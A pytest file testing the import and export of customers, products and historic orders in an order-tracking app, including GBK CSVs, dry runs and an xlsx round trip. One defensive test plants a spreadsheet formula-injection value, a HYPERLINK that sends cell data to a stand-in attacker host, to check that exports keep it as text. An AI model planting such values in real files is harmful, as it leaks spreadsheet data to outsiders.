"""gendan import / export: customers, products and historic orders from .xlsx and .csv (UTF-8, BOM, GBK),
the row-by-row report, dry runs and re-runs that change nothing, all-or-nothing files, and the export."""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from bot.cli import main
from handlers.import_export_cli import run_export, run_import
from storage.db import Database
from storage.models import AuditEvent, Counter, Customer, Order, Payment, Person, Product, Shipment, StockMove
from storage.services import people
from storage.services.import_report import Kind
from tests.conftest import fingerprint

TZ = ZoneInfo("Asia/Shanghai")
NOW = datetime(2026, 11, 27, 2, 0, tzinfo=UTC)
D = Decimal


def cell_day(year: int, month: int, day: int) -> datetime:
    """A date as an Excel cell holds it: naive, Excel has no time zones."""
    return datetime(year, month, day)  # noqa: DTZ001

CUSTOMERS: list[list[Any]] = [
    ["客户名称", "联系人", "电话", "地址", "信用额度", "付款方式"],
    ["华为技术", "王工", 13800138000, "深圳坂田", "1,200", "月结30天"],
    ["小米", "李工", None, "北京", "1.5万", None],
]
PRODUCTS: list[list[Any]] = [
    ["产品编码", "产品名称", "单位", "单价", "底价", "库存"],
    ["A100", "伺服电机", "台", 300, 250, 50],
    ["B200", "控制器", "个", "¥1,200.50", None, None],
]
ORDER_HEAD: list[Any] = ["订单号", "客户", "产品", "数量", "单价", "交期", "下单日期", "负责人", "状态", "已发数量",
                         "已回款"]
ORDERS: list[list[Any]] = [
    ORDER_HEAD,
    # fully shipped and paid, though the file says 已确认: imported as COMPLETED (with a note)
    ["H-001", "华为技术", "A100", 10, 100, cell_day(2026, 10, 15), "2026/10/01", "张三", "已确认", 10, "1,500"],
    ["H-001", None, "b200", 5, 100, None, None, None, None, 5, None],
    ["H-002", "小米", "A100", 20, 300, "2026-12-15", cell_day(2026, 11, 20), "u1", "已确认", 8, 2000],
    # a discontinued product stays as free text; cancelled without activity
    ["H-003", "小米", "停产老货", 3, 33.33, None, "2026.9.1", "张三", "已作废", None, None],
]


def xlsx(path: Path, rows: list[list[Any]]) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def csv_file(path: Path, rows: list[list[Any]], encoding: str) -> Path:
    buf = io.StringIO()
    csv.writer(buf).writerows([["" if v is None else v for v in row] for row in rows])
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


async def do_import(db: Database, kind: Kind, path: Path, *, dry_run: bool = False,
                    owner: str | None = None) -> tuple[str, int]:
    progress = io.StringIO()
    text, status = await run_import(db, kind, path, dry_run=dry_run, now=NOW, tz=TZ, default_owner=owner,
                                    stream=progress)
    if status == 0:
        assert progress.getvalue().rstrip().endswith("100%"), progress.getvalue()
    return text, status


async def scalar(db: Database, stmt: Any) -> Any:
    async with db.uow() as uow:
        return (await uow.session.execute(stmt)).scalar_one()


async def setup_catalog(db: Database, tmp_path: Path) -> None:
    async with db.uow() as uow:
        await people.register(uow, "local", "u1", "张三", tenant="local")
    for kind, rows in (("customers", CUSTOMERS), ("products", PRODUCTS)):
        text, status = await do_import(db, kind, xlsx(tmp_path / f"{kind}.xlsx", rows))  # type: ignore[arg-type]
        assert status == 0, text


async def test_customers_from_xlsx_then_rerun_and_update(db: Database, tmp_path: Path) -> None:
    path = xlsx(tmp_path / "c.xlsx", CUSTOMERS)
    text, status = await do_import(db, "customers", path)
    assert status == 0 and "新增 2" in text and text.endswith("已导入。"), text
    async with db.uow() as uow:
        hw = (await uow.session.execute(select(Customer).where(Customer.name == "华为技术"))).scalar_one()
        xm = (await uow.session.execute(select(Customer).where(Customer.name == "小米"))).scalar_one()
    assert (hw.contact, hw.phone, hw.address, hw.payment_terms) == ("王工", "13800138000", "深圳坂田", "月结30天")
    assert hw.credit_limit == Decimal("1200") and xm.credit_limit == Decimal("15000") and xm.phone is None

    before = await fingerprint(db)
    text, status = await do_import(db, "customers", path)
    assert status == 0 and "新增 0，更新 0，不变 2" in text, text
    assert await fingerprint(db) == before

    changed = [row[:] for row in CUSTOMERS]
    changed[2][1] = "赵工"
    text, _ = await do_import(db, "customers", xlsx(tmp_path / "c2.xlsx", changed))
    assert "新增 0，更新 1，不变 1" in text, text
    assert await scalar(db, select(Customer.contact).where(Customer.name == "小米")) == "赵工"


async def test_products_from_utf8_bom_csv_with_english_headers(db: Database, tmp_path: Path) -> None:
    rows = [["SKU", "Name", "Unit", "Price", "Floor price", "Stock"], ["A100", "伺服电机", "台", "300", "250", "50"],
            ["B200", "控制器", "个", "1,200.50", "", "1.5万"]]
    path = csv_file(tmp_path / "p.csv", rows, "utf-8-sig")
    text, status = await do_import(db, "products", path)
    assert status == 0 and "新增 2" in text, text
    async with db.uow() as uow:
        b200 = (await uow.session.execute(select(Product).where(Product.sku == "B200"))).scalar_one()
        moves = list((await uow.session.execute(select(StockMove).order_by(StockMove.id))).scalars())
    assert (b200.name, b200.unit, b200.price, b200.floor_price, b200.stock) == (
        "控制器", "个", Decimal("1200.50"), None, Decimal("15000"))
    # the stock ledger adds up to the stock on hand
    assert [(m.delta, m.reason) for m in moves] == [(Decimal(50), "import"), (Decimal(15000), "import")]

    before = await fingerprint(db)
    text, _ = await do_import(db, "products", path)
    assert "不变 2" in text and await fingerprint(db) == before

    rows[1][5] = "45"  # counted again: 5 fewer on hand
    await do_import(db, "products", csv_file(tmp_path / "p2.csv", rows, "utf-8"))
    delta = await scalar(db, select(StockMove.delta).order_by(StockMove.id.desc()).limit(1))
    assert delta == Decimal(-5) and await scalar(db, select(Product.stock).where(Product.sku == "A100")) == 45


async def test_gbk_csv_as_excel_in_china_writes_it(db: Database, tmp_path: Path) -> None:
    rows = [["客户名称", "地址"], ["深圳市腾讯计算机系统有限公司", "南山区科技园"]]
    path = csv_file(tmp_path / "gbk.csv", rows, "gbk")
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")  # really not UTF-8
    text, status = await do_import(db, "customers", path)
    assert status == 0, text
    assert await scalar(db, select(Customer.address)) == "南山区科技园"
    assert await scalar(db, select(Customer.name)) == "深圳市腾讯计算机系统有限公司"


async def test_bad_row_is_reported_and_nothing_is_imported(db: Database, tmp_path: Path) -> None:
    rows = [*PRODUCTS, ["C300", "电缆", "米", 8, None, 100], ["D400", "接头", "个", "abc", None, None],
            ["C300", "重复", "米", 9, None, None]]
    before = await fingerprint(db)
    text, status = await do_import(db, "products", xlsx(tmp_path / "p.xlsx", rows))
    assert status == 1
    assert "第5行：单价「abc」不是数字" in text and "第6行：产品编码「C300」和第4行重复" in text, text
    assert "整个文件都没有导入" in text
    assert await fingerprint(db) == before  # the good rows 2-4 were not imported either

    text, status = await do_import(db, "products", xlsx(tmp_path / "p.xlsx", rows), dry_run=True)
    assert status == 1 and "第5行：单价「abc」不是数字" in text and "试运行：有 2 个错误" in text, text


async def test_missing_column_and_unknown_file_type(db: Database, tmp_path: Path) -> None:
    text, status = await do_import(db, "orders", xlsx(tmp_path / "o.xlsx", [["订单号", "客户", "数量"], ["X", "Y", 1]]))
    assert status == 1 and "第1行：缺少「产品」列" in text and "第1行：缺少「单价」列" in text, text
    bad = tmp_path / "old.xls"
    bad.write_bytes(b"\xd0\xcf\x11\xe0")
    text, status = await run_import(db, "orders", bad, dry_run=False, now=NOW, tz=TZ, stream=io.StringIO())
    assert status == 1 and "不支持的文件类型「.xls」" in text, text


async def test_historic_orders(db: Database, tmp_path: Path) -> None:
    await setup_catalog(db, tmp_path)
    stock_before = await scalar(db, select(func.count()).select_from(StockMove))
    text, status = await do_import(db, "orders", xlsx(tmp_path / "o.xlsx", ORDERS))
    assert status == 0, text
    assert "新增订单 3" in text
    assert "第2行：订单「H-001」已全部发货并回清款，状态按「已完成」导入（文件里是「已确认」）" in text
    assert "第5行：产品「停产老货」不在产品目录里" in text
    async with db.uow() as uow:
        orders = {o.external_ref: o for o in (await uow.session.execute(select(Order))).scalars()}
        payments = list((await uow.session.execute(select(Payment))).scalars())
        shipments = list((await uow.session.execute(select(Shipment))).scalars())
        audits = list((await uow.session.execute(select(AuditEvent).where(AuditEvent.action == "import"))).scalars())
        counter = (await uow.session.execute(select(Counter.value).where(Counter.name == "order"))).scalar_one()
    h1, h2, h3 = orders["H-001"], orders["H-002"], orders["H-003"]
    assert [h1.no, h2.no, h3.no] == [1, 2, 3] and counter == 3
    assert (h1.state, h1.amount, h1.paid_amount, h1.due_date) == ("COMPLETED", D(1500), D(1500), date(2026, 10, 15))
    assert [(ln.sku, ln.qty, ln.shipped_qty, ln.product_id is not None) for ln in h1.lines] == [
        ("A100", D(10), D(10), True), ("B200", D(5), D(5), True)]  # "b200" matched the catalog's SKU
    assert h1.completed_at is not None and h1.customer is not None and h1.customer.name == "华为技术"
    assert (h2.state, h2.amount, h2.paid_amount, h2.owner.name) == ("CONFIRMED", D(6000), D(2000), "张三")
    assert h2.created_at.astimezone(TZ).date() == date(2026, 11, 20) and h2.lines[0].shipped_qty == 8
    assert (h2.origin_platform, h2.origin_chat_id, h2.origin_chat_type) == ("local", "u1", "single")
    assert (h3.state, h3.amount, h3.lines[0].product_id, h3.lines[0].sku) == ("CANCELLED", Decimal("99.99"),
                                                                               None, "停产老货")
    assert sorted((p.amount, p.paid_on) for p in payments) == [(D(1500), date(2026, 10, 1)),
                                                                (D(2000), date(2026, 11, 20))]
    assert sorted(s.amount for s in shipments) == [1500, 2400]
    assert sorted(a.summary for a in audits) == ["H-001", "H-002", "H-003"]
    assert {a.actor_platform for a in audits} == {"cli"}
    # history moves no stock: the product import states what is on hand today
    assert await scalar(db, select(func.count()).select_from(StockMove)) == stock_before

    before = await fingerprint(db)
    text, status = await do_import(db, "orders", xlsx(tmp_path / "o.xlsx", ORDERS))
    assert status == 0 and "新增订单 0，已导入过（跳过）3" in text, text
    assert await fingerprint(db) == before


async def test_orders_dry_run_changes_nothing_and_reports_like_the_real_run(db: Database, tmp_path: Path) -> None:
    await setup_catalog(db, tmp_path)
    path = csv_file(tmp_path / "o.csv", [[c.isoformat()[:10] if isinstance(c, datetime) else c for c in row]
                                         for row in ORDERS], "utf-8")
    before = await fingerprint(db)
    dry, status = await do_import(db, "orders", path, dry_run=True)
    assert status == 0 and "试运行：没有问题" in dry, dry
    assert await fingerprint(db) == before
    real, status = await do_import(db, "orders", path)
    assert status == 0 and await fingerprint(db) != before
    assert dry.splitlines()[:-1] == real.splitlines()[:-1]
    assert await scalar(db, select(Order.no).where(Order.external_ref == "H-003")) == 3  # the dry run took no numbers


async def test_order_invariants_are_enforced_row_by_row(db: Database, tmp_path: Path) -> None:
    await setup_catalog(db, tmp_path)
    due = "2026-12-15"
    rows = [
        ORDER_HEAD,
        ["E-1", "华为技术", "A100", 10, 100, due, None, "张三", None, 12, None],  # 2
        ["E-2", "不存在公司", "A100", 1, 1, due, None, "张三", None, None, None],  # 3
        ["E-3", "华为技术", "A100", 1, "abc", due, None, "张三", None, None, None],  # 4
        ["E-4", "华为技术", "A100", 2, 100, due, None, "张三", "已完成", 1, None],  # 5
        ["E-5", "华为技术", "A100", 1, 100, due, None, "张三", None, None, 500],  # 6
        ["E-6", "华为技术", "A100", 1, 100, due, None, "张三", "待审批", None, None],  # 7
        ["E-7", "小米", "A100", 1, 100, due, None, "张三", None, None, None],  # 8
        ["E-7", "华为技术", "B200", 1, 100, None, None, None, None, None, None],  # 9
        ["E-8", "华为技术", "A100", 1, 100, due, None, "无名氏", None, None, None],  # 10
        ["E-9", "华为技术", "A100", 1, 100, due, None, "张三", "乱写", None, None],  # 11
        ["E-10", "华为技术", "A100", 1, 100, due, None, "张三", "已作废", None, 50],  # 12
        ["E-11", "华为技术", "A100", 1, 100, None, None, "张三", None, None, None],  # 13: open, no due date
        ["E-12", "华为技术", "A100", 1, 100, "明年", None, "张三", None, None, None],  # 14
        ["OK-1", "华为技术", "A100", 1, 100, due, None, "张三", None, None, None],  # 15: fine on its own
    ]
    before = await fingerprint(db)
    text, status = await do_import(db, "orders", xlsx(tmp_path / "bad.xlsx", rows))
    assert status == 1
    for expected in ("第2行：已发数量 12 超过了数量 10", "第3行：客户「不存在公司」不存在",
                     "第4行：单价「abc」不是数字",
                     "第5行：订单「E-4」标为已完成，但没有全部发货或还有 200 元未回款",
                     "第6行：订单「E-5」已回款 500 超过了订单金额 100", "第7行：状态「待审批」不能导入",
                     "第9行：订单「E-7」的客户「华为技术」和第8行的「小米」不一致", "第10行：负责人「无名氏」找不到",
                     "第11行：状态「乱写」不认识", "第12行：订单「E-10」已作废，却有发货或回款", "第13行：缺少交期",
                     "第14行：交期「明年」不是日期", "有 12 个错误，整个文件都没有导入"):
        assert expected in text, (expected, text)
    assert await fingerprint(db) == before


async def test_owner_from_option_when_the_cell_is_empty(db: Database, tmp_path: Path) -> None:
    await setup_catalog(db, tmp_path)
    rows = [ORDER_HEAD, ["N-1", "华为技术", "A100", 1, 100, "2026-12-15", None, None, None, None, None]]
    text, status = await do_import(db, "orders", xlsx(tmp_path / "n.xlsx", rows))
    assert status == 1 and "1 个订单没有负责人（第2行）：导入时加 --owner 张三" in text, text
    text, status = await do_import(db, "orders", xlsx(tmp_path / "n.xlsx", rows), owner="local:u1")
    assert status == 0, text
    assert await scalar(db, select(Order.state).where(Order.external_ref == "N-1")) == "CONFIRMED"


async def test_export_round_trip(db: Database, tmp_path: Path) -> None:
    await setup_catalog(db, tmp_path)
    await do_import(db, "orders", xlsx(tmp_path / "o.xlsx", ORDERS))
    out = tmp_path / "out" / "orders.xlsx"
    message, status = await run_export(db, out, None, None, TZ)
    assert status == 0 and "3 个订单、4 行明细" in message, message
    book = load_workbook(out)
    assert book.sheetnames == ["订单", "明细"]
    orders, lines = book["订单"], book["明细"]
    assert [c.value for c in orders[1]] == ["单号", "状态", "阶段", "客户", "负责人", "金额", "已收", "待收", "交期",
                                           "下单时间", "外部订单号"]
    values = [[c.value for c in row] for row in orders.iter_rows(min_row=2)]
    assert values[0][:9] == [1, "已完成", None, "华为技术", "张三", 1500, 1500, 0, cell_day(2026, 10, 15)]
    assert values[0][9] == cell_day(2026, 10, 1) and values[0][10] == "H-001"
    assert values[1][1:8] == ["已确认", "部分发货", "小米", "张三", 6000, 2000, 4000]
    assert values[2][5] == pytest.approx(99.99) and values[2][1] == "已作废"
    assert orders["F2"].number_format == "#,##0.00" and orders["I2"].number_format == "yyyy-mm-dd"
    assert orders.freeze_panes == "A2" and lines.freeze_panes == "A2"
    assert orders.column_dimensions["D"].width >= 10 and orders["A1"].font.b
    assert [[c.value for c in row] for row in lines.iter_rows(min_row=2, max_col=9)] == [
        [1, 1, "A100", "伺服电机", 10, "台", 100, 1000, 10], [1, 2, "B200", "控制器", 5, "个", 100, 500, 5],
        [2, 1, "A100", "伺服电机", 20, "台", 300, 6000, 8], [3, 1, "停产老货", None, 3, None, 33.33, 99.99, 0]]

    message, _ = await run_export(db, out, "2026-11-01", None, TZ)
    assert "1 个订单" in message and load_workbook(out)["订单"]["K2"].value == "H-002"
    message, _ = await run_export(db, out, None, "2026/10/31", TZ)
    assert "2 个订单" in message
    message, status = await run_export(db, out, "上个月", None, TZ)
    assert status == 2 and "上个月" in message


def test_cli_import_and_export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
                               ) -> None:
    path = tmp_path / "gendan.db"
    monkeypatch.setenv("GENDAN_DATABASE_URL", f"sqlite+aiosqlite:///{path}")
    source = str(xlsx(tmp_path / "c.xlsx", CUSTOMERS))

    def count() -> int:
        with sqlite3.connect(path) as conn:
            return int(conn.execute("SELECT count(*) FROM customers").fetchone()[0])

    assert main(["import", "customers", source, "--dry-run"]) == 0
    out = capsys.readouterr()
    assert "试运行" in out.out and "100%" in out.err and count() == 0
    assert main(["import", "customers", source]) == 0
    assert "已导入" in capsys.readouterr().out and count() == 2
    assert main(["import", "customers", str(tmp_path / "missing.xlsx")]) == 1
    assert "找不到文件" in capsys.readouterr().out
    assert main(["export", "orders", str(tmp_path / "e.xlsx"), "--from", "2026-01-01"]) == 0
    assert load_workbook(tmp_path / "e.xlsx")["订单"].max_row == 1


async def test_export_never_writes_formulas(db: Database, tmp_path: Path) -> None:
    """Text that people typed stays text in the workbook (no formula injection)."""
    from openpyxl import load_workbook

    from storage.models import Customer, Order, OrderLine, Person

    async with db.uow() as uow:
        person = Person(platform="local", user_id="u1", name="=1+1", roles=[])
        customer = Customer(name='=HYPERLINK("http://evil.example/?x="&A2,"x")')
        uow.session.add_all([person, customer])
        await uow.session.flush()
        uow.session.add(Order(no=1, customer_id=customer.id, owner_id=person.id, state="CONFIRMED",
                              origin_platform="local", origin_chat_id="g1", row_version=1,
                              created_at=datetime(2026, 11, 27, tzinfo=UTC),
                              updated_at=datetime(2026, 11, 27, tzinfo=UTC),
                              lines=[OrderLine(line_no=1, sku="@SUM(A1)", qty=1, unit_price=10, shipped_qty=0)]))
    out = tmp_path / "x.xlsx"
    from handlers.import_export_cli import run_export

    await run_export(db, out, None, None, ZoneInfo("Asia/Shanghai"))
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK") for c in cells)


async def test_imported_closed_orders_write_off_and_strict_values(db: Database, tmp_path: Path) -> None:
    await setup_catalog(db, tmp_path)
    rows = [ORDER_HEAD, ["C-1", "华为技术", "A100", 10, 100, "2026-12-15", None, "张三", "已关闭", 4, 300]]
    text, status = await do_import(db, "orders", xlsx(tmp_path / "c.xlsx", rows))
    assert status == 0, text
    order = await scalar(db, select(Order).where(Order.external_ref == "C-1"))
    assert order.state == "CLOSED" and order.balance == 0 and order.written_off == Decimal("700.00")
    bad = [ORDER_HEAD,
           ["C-2", "华为技术", "A100", 1, 0, "2026-12-15", None, "张三", "已确认", None, None],
           ["C-3", "华为技术", "A100", "1.2345", 10, "2026-12-15", None, "张三", "已确认", None, None]]
    text, status = await do_import(db, "orders", xlsx(tmp_path / "bad.xlsx", bad))
    assert status == 1 and "第2行" in text and "要大于 0" in text and "第3行" in text and "3 位小数" in text, text
    async with db.uow() as uow:
        person = (await uow.session.execute(select(Person).where(Person.user_id == "u1"))).scalar_one()
        person.active = False
    gone = [ORDER_HEAD, ["C-4", "华为技术", "A100", 1, 10, "2026-12-15", None, "张三", "已确认", None, None]]
    text, status = await do_import(db, "orders", xlsx(tmp_path / "gone.xlsx", gone))
    assert status == 1 and "第2行" in text, text
